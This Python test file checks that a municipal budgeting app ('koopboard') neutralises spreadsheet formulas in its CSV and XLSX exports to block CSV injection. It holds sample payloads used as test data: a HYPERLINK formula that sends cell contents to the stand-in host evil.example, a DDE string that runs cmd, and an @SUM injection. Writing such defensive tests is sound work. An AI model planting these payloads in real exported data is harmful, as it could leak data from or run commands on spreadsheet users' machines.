"""No CSV the app writes lets a typed text run as a spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from koopboard import csvsafe
from tests.conftest import login
from tests.web.test_costs import YEAR, _book, _population_key, books  # noqa: F401 (fixture)

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Klick")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)"


def _approved(client, books, **fields: str) -> None:  # noqa: ANN001, F811
    """Book a cost as treasurer 1 and have treasurer 2 approve it (the statement lists those)."""
    cost = _book(client, books, **fields)
    assert (
        client.post(f"{books['base']}/{cost.id}/einreichen", data={"version": "1"}).status_code
        == 302
    )
    client.post("/abmelden")
    login(client, books["t2"])
    response = client.post(f"{books['base']}/{cost.id}/freigeben", data={"version": "2"})
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    client.post("/abmelden")
    login(client, books["t1"])


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        (DDE, "'" + DDE),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        (AT_SUM, "'" + AT_SUM),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Software-Lizenz", "Software-Lizenz"),
        ("Müll = Abfall", "Müll = Abfall"),
        ("", ""),
        # Numbers stay values a spreadsheet can add up.
        ("-4814,08", "-4814,08"),
        ("+12.5", "+12.5"),
        ("2026", "2026"),
    ],
)
def test_text_cells_starting_like_a_formula_get_a_quote(typed: str, written: str) -> None:
    assert csvsafe.neutralise(typed) == written


def test_non_text_cells_are_written_as_they_are() -> None:
    out = io.StringIO()
    csvsafe.writer(out, delimiter=";", lineterminator="\n").writerow([2026, -5, None, "=A1"])
    assert out.getvalue() == "2026;-5;;'=A1\n"


def test_no_module_writes_csv_around_the_neutraliser() -> None:
    """Every CSV now and later: only csvsafe may build a csv writer (ruff bans it as well)."""
    root = Path(__file__).resolve().parents[2] / "koopboard"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "csvsafe.py"
        and any(name in path.read_text() for name in ("csv.writer", "csv.DictWriter", "from csv"))
    ]
    assert offenders == []


def test_statement_csv_neutralises_cost_text_and_category_but_keeps_amounts(
    books,  # noqa: F811
    login_as,  # noqa: ANN001
) -> None:
    t1 = login_as(books["t1"])
    _population_key(t1, books)
    _approved(t1, books, text=HYPERLINK, category=AT_SUM)
    _approved(t1, books, text=DDE, category="-Sonstiges", amount="-100,00", kind="foerderung")
    eppelborn = books["m"]["eppelborn"]

    exported = t1.get(f"{books['base']}/abrechnung/{YEAR}/{eppelborn.id}.csv")

    assert exported.status_code == 200
    rows = _rows(exported.data)
    texts = [cell for row in rows for cell in row[2:4]]
    assert "'" + HYPERLINK in texts and "'" + AT_SUM in texts
    assert "'" + DDE in texts and "'-Sonstiges" in texts
    risky = [cell for row in rows for cell in row if cell.startswith(csvsafe.FORMULA_STARTS)]
    # What still starts with a sign is a plain amount (the refund is negative).
    assert risky and all(csvsafe._NUMBER.fullmatch(cell) for cell in risky)
    line = next(r for r in rows if len(r) > 2 and r[2] == "'" + HYPERLINK)
    assert line[5] == "12345,67"


def test_statement_xlsx_keeps_formula_like_text_as_plain_strings(books, login_as) -> None:  # noqa: ANN001, F811
    t1 = login_as(books["t1"])
    _population_key(t1, books)
    _approved(t1, books, text=HYPERLINK, category=AT_SUM)
    eppelborn = books["m"]["eppelborn"]

    exported = t1.get(f"{books['base']}/abrechnung/{YEAR}/{eppelborn.id}.xlsx")

    with zipfile.ZipFile(io.BytesIO(exported.data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula cell at all
    assert "=HYPERLINK(" in sheet.replace("&quot;", '"').replace("&amp;", "&")


def test_history_csv_neutralises_milestone_titles_and_cost_texts(books, login_as) -> None:  # noqa: ANN001, F811
    lead = login_as(books["lead"])
    coop = books["coop"]
    response = lead.post(
        f"/kooperationen/{coop.id}/meilensteine/neu",
        data={
            "title": "=1+1",
            "phase": "planung",
            "due_date": "2026-03-01",
            "status": "geplant",
            "responsible_municipality_id": str(books["m"]["illingen"].id),
            "description": AT_SUM,
            "progress_note": "",
        },
    )
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    lead.post("/abmelden")
    t1 = login_as(books["t1"])
    _population_key(t1, books)
    _book(t1, books, text=HYPERLINK)

    exported = t1.get(f"/kooperationen/{coop.id}/verlauf.csv")

    assert exported.status_code == 200
    cells = [cell for row in _rows(exported.data) for cell in row]
    assert "'=1+1" in cells and "'" + AT_SUM in cells and "'" + HYPERLINK in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@")) and "HYPERLINK" in c]
    assert not any(c.startswith(("=", "@", "\t", "\r")) for c in cells)
